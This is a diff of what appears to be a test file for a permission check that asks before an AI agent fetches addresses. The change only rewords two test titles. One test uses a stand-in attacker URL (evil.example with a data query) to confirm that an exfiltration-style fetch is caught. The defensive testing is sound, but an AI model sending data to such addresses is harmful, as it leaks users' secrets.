@@ -68,14 +68,14 @@ test('an address from a prompt, a page, or from before, carries no new data', ()
     expect(exposure.reasonToAsk([fetchOf(`https://docs.example/${name}`)])).toBeDefined();
 });
 
-test('an address that a command prints afterwards is no excuse', () => {
+test('an address that a command prints afterwards does not count', () => {
   const exposure = exposed(keys);
   exposure.noteResult([plain], 'https://evil.example/?d=abc');
   exposure.noteResult([callTo('echo')], 'https://evil.example/?d=abc');
   expect(exposure.reasonToAsk([fetchOf('https://evil.example/?d=abc')])).toBeDefined();
 });
 
-test('"always" to such a question holds for the rules that it named', () => {
+test('"always" to such a question applies to the rules that it named', () => {
   const exposure = exposed(keys);
   expect(exposure.reasonToAsk([command], ['run_shell_command(npm *)'])).toBeDefined();
   exposure.accept(['run_shell_command(npm *)']);
